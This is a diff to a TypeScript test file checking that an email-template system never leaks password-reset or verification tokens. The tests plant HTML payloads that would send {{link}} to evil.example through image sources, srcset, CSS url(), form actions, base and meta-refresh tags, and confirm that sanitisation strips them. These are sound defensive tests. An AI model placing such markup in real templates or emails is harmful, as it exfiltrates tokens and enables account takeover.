@@ -1,11 +1,12 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { emailTemplateSeeds } from '../../server/db/seed/emailTemplates.js';
+import { emailTemplateSeeds, seedEmailTemplates } from '../../server/db/seed/emailTemplates.js';
 import { renderEmailTemplate } from '../../server/services/emailTemplates.js';
 import { sendMail } from '../../server/services/mail.js';
 import { sanitizeHtml } from '../../server/services/sanitizeHtml.js';
 import { unknownVariables } from '../../server/services/templateText.js';
+import { createTestAccount, type TestAccount } from '../helpers/accounts.js';
 import { startTestApp, type TestApp } from '../helpers/app.js';
-import { createPerson, outboxFor, startAppWithLog, startFakeSmtp, type FakeSmtp } from './auth-support.js';
+import { createPerson, outboxFor, startAppWithLog, startFakeSmtp, tokenFromLatestMail, type FakeSmtp } from './auth-support.js';
 
 describe('email templates seed', () => {
   it('has the seven templates, each using only the variables it lists', () => {
@@ -154,4 +155,71 @@ describe('the link in the log', () => {
       }
     });
   }
+});
+
+describe('a stored template that puts the link inside an attribute or another address', () => {
+  const publicUrl = 'https://tutors.example';
+  // As a template could hold it from an earlier version or a direct database change: the server must still not leak the link.
+  const leakingBody = [
+    '<p><img src="https://evil.example/p.png?t={{link}}"></p>',
+    '<p><a href="https://evil.example/r?u={{link}}">Open</a></p>',
+    '<p><a href="{{link}}" title="{{link}}">Reset</a></p>',
+    '<p>https://evil.example/r?u={{link}}</p>',
+    '<p><span style="background:url(https://evil.example/p.png?t={{link}})">x</span></p>',
+    '<p><img src="https://tutors.example/logo.png" srcset="https://evil.example/p.png?t={{link}} 2x"></p>',
+    '<form action="https://evil.example/r"><input name="t" value="{{link}}"><textarea name="u">{{link}}</textarea><button>Go</button></form>',
+    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/r?u={{link}}">',
+    '<table background="https://evil.example/p.png?t={{link}}"><tr><td>x</td></tr></table>',
+    '<p><img src="{{link}}"></p>',
+  ].join('\n');
+  let t: TestApp;
+  let boss: TestAccount;
+  beforeAll(async () => {
+    t = await startTestApp({ PUBLIC_URL: publicUrl });
+    boss = await createTestAccount(t, 'superAdmin');
+    await seedEmailTemplates(t.db);
+    await t.db
+      .updateTable('emailTemplates')
+      .set({ subject: 'Go to https://evil.example/r?u={{link}}', bodyHtml: leakingBody })
+      .where('key', 'in', ['forgot-password', 'set-password', 'verify-email'])
+      .execute();
+  });
+  afterAll(async () => t.close());
+
+  /** Each run of address-like characters in the mail that holds the token. */
+  const addressesWith = (token: string, content: string) => [...content.matchAll(/[^\s"'<>]+/g)].map(([run]) => run).filter((run) => run.includes(token));
+
+  async function expectLinkOnlyToPublicUrl(to: string, templateKey: string, path: 'reset-password' | 'verify') {
+    const [mail] = await outboxFor(t, to);
+    expect(mail!.templateKey).toBe(templateKey);
+    const token = await tokenFromLatestMail(t, to, path);
+    const link = `${publicUrl}/${path}/${token}`;
+    expect(mail!.html).toContain(`<a href="${link}" rel="noopener noreferrer">Reset</a>`);
+    for (const part of [mail!.html, mail!.text]) {
+      expect(addressesWith(token, part).length).toBeGreaterThan(0);
+      // In the plain text a link reads "label (address)".
+      for (const address of addressesWith(token, part)) expect(address.replace(/^\((.*)\)$/, '$1')).toBe(link);
+    }
+    expect(mail!.html.match(/<img[^>]*>/g)).toEqual(['<img src="https://tutors.example/logo.png" />']);
+    expect(mail!.html).not.toMatch(/<form|<input|<textarea|<base|http-equiv|background=|srcset|url\(/);
+    expect(mail!.subject).not.toContain(token);
+    expect(mail!.subject).toBe('Go to https://evil.example/r?u=');
+  }
+
+  it('mails a superAdmin the reset link only as a link to PUBLIC_URL', async () => {
+    const superAdmin = await createPerson(t, { userType: 'superAdmin' });
+    const res = await t.app.inject({ method: 'POST', url: '/api/v1/auth/forgotPassword', payload: { email: superAdmin.email } });
+    expect(res.statusCode).toBe(200);
+    await expectLinkOnlyToPublicUrl(superAdmin.email, 'forgot-password', 'reset-password');
+  });
+
+  it('mails the choose-a-password and the confirm-address links only as links to PUBLIC_URL', async () => {
+    const register = (body: object) => t.app.inject({ method: 'POST', url: '/api/v1/admin/register', headers: boss.headers, payload: body });
+    const student = 'leak-student@example.test';
+    expect((await register({ userType: 'user', displayName: 'New Student', email: student })).statusCode).toBe(200);
+    await expectLinkOnlyToPublicUrl(student, 'set-password', 'reset-password');
+    const tutor = 'leak-tutor@example.test';
+    expect((await register({ userType: 'tutor', displayName: 'New Tutor', email: tutor, password: 'Set by staff 12345' })).statusCode).toBe(200);
+    await expectLinkOnlyToPublicUrl(tutor, 'verify-email', 'verify');
+  });
 });
